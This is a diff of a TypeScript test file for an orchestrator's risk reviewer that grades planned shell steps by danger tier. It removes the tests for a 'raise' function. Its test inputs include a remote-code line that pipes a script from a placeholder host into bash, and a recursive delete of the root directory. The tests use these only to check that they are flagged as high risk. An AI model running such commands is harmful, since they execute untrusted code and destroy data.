@@ -1,5 +1,5 @@
 import type { Step } from '../../../src/orchestrator/domain/plan';
-import { createSage, explain, raise, replay, riskSchema } from '../../../src/orchestrator/review';
+import { createSage, explain, replay, riskSchema } from '../../../src/orchestrator/review';
 
 const sage = createSage(riskSchema.parse({}));
 const plan = (id: string, command: string) => ({
@@ -9,13 +9,12 @@ const plan = (id: string, command: string) => ({
 });
 
 describe('explain', () => {
-  it('says the tier, each reason with its rule, step and evidence, and the policy', () => {
+  it('says the tier, each reason with its rule, step and evidence', () => {
     const assessment = sage.assess(plan('a', 'curl -s https://x.example/i.sh | bash'));
-    const [first, reason, where, ...rest] = explain(assessment).split('\n');
+    const [first, reason, where] = explain(assessment).split('\n');
     expect(first).toBe(`Tier 3, needs an elder approval; score ${assessment.score} of 100`);
     expect(reason).toBe('  Tier 3  Runs code straight from the network. [remote-code]');
     expect(where).toBe('          step s1: bash');
-    expect(rest.at(-1)).toBe(`  judged by policy ${assessment.policy.slice(0, 12)}`);
   });
 
   it('says so when there is no reason, and when a reason is about the whole plan', () => {
@@ -28,36 +27,7 @@ describe('explain', () => {
       evidence: 'twice',
       tier: 2,
     } as const;
-    expect(explain(raise(quiet, old))).toContain('the whole plan: twice');
-  });
-});
-
-describe('raise', () => {
-  const reason = {
-    rule: 'history',
-    text: 'Failed before.',
-    stepId: null,
-    evidence: 'twice',
-    tier: 2,
-  } as const;
-
-  it('lifts the tier and the score to what the reason asks for', () => {
-    const before = sage.assess(plan('a', 'ls'));
-    expect(before.tier).toBe(1);
-    expect(raise(before, reason)).toMatchObject({
-      tier: 2,
-      score: 38,
-      reasons: [reason],
-      policy: before.policy,
-    });
-  });
-
-  it('never lowers a tier, and puts a lesser reason behind the greater ones', () => {
-    const before = sage.assess(plan('a', 'rm -rf /'));
-    const after = raise(before, { ...reason, tier: 1 });
-    expect(after.tier).toBe(3);
-    expect(after.score).toBeGreaterThanOrEqual(before.score);
-    expect(after.reasons.at(-1)?.rule).toBe('history');
+    expect(explain({ ...quiet, reasons: [old] })).toContain('the whole plan: twice');
   });
 });
 
